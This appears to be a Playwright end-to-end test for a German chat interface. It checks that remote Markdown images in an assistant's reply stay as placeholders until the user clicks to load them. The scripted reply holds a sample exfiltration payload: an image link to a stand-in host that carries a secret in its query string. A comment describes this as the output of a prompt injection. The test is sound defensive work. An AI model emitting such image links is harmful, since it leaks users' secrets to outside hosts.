import type { Page, Request } from '@playwright/test';
import { randomBytes } from 'node:crypto';
import { registerInGerman } from './support/accounts.ts';
import { E2E_BASE_URL } from './support/e2e-server.ts';
import { scriptReply } from './support/fake-upstream.ts';
import { expect, test } from './support/fixtures.ts';

/** A 1×1 transparent PNG: what the image host answers. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);

const replies = (page: Page) => page.getByRole('article', { name: 'Antwort des Assistenten' });

/**
 * Issue #15 item 8: a reply that a prompt injection steered into a Markdown image with a secret in
 * its address must not make the browser send it. The image host is an https origin the CSP allows,
 * answered by the test; what reaches it is what the browser sent.
 */
test('a reply’s remote images reach their host only after the user clicks "Bild anzeigen"', async ({
  page,
}) => {
  const tag = `images-${randomBytes(3).toString('hex')}`;
  const secret = `geheim-${randomBytes(4).toString('hex')}`;
  const seen: string[] = [];
  await page.route('https://images.example/**', async (route) => {
    seen.push(route.request().url());
    await route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL });
  });
  await scriptReply(tag, {
    chunks: [
      `Hier ist es: ![](https://images.example/leak.png?q=${secret}) `,
      `![Diagramm](https://images.example/chart.png) und ![Logo](${E2E_BASE_URL}/logo.svg)\n\n`,
      'Ende.',
    ],
  });

  await registerInGerman(page);
  await page.goto('/chat');
  const input = page.getByRole('textbox', { name: 'Nachricht' });
  await input.fill(`Zeig mir Bilder ${tag}`);
  await input.press('Enter');
  const reply = replies(page);
  await expect(reply).toContainText('Ende.');

  // The same-origin image loads; the remote ones are placeholders that name their host.
  await expect(reply.locator('img')).toHaveCount(1);
  await expect(reply.locator('img')).toHaveAttribute('src', `${E2E_BASE_URL}/logo.svg`);
  await expect(reply.getByText('Externes Bild von images.example')).toHaveCount(2);
  expect(seen).toEqual([]);

  const loaded = (request: Request) => request.url().startsWith('https://images.example/');
  const leak = page.waitForRequest((request) => loaded(request) && request.url().includes(secret));
  await reply.getByRole('button', { name: 'Bild anzeigen' }).first().click();
  await leak;
  await expect(reply.locator('img')).toHaveCount(3);
  await expect(reply.getByRole('button', { name: 'Bild anzeigen' })).toHaveCount(0);
  await expect.poll(() => seen.length).toBe(2);
  expect(seen).toContain(`https://images.example/leak.png?q=${secret}`);
});
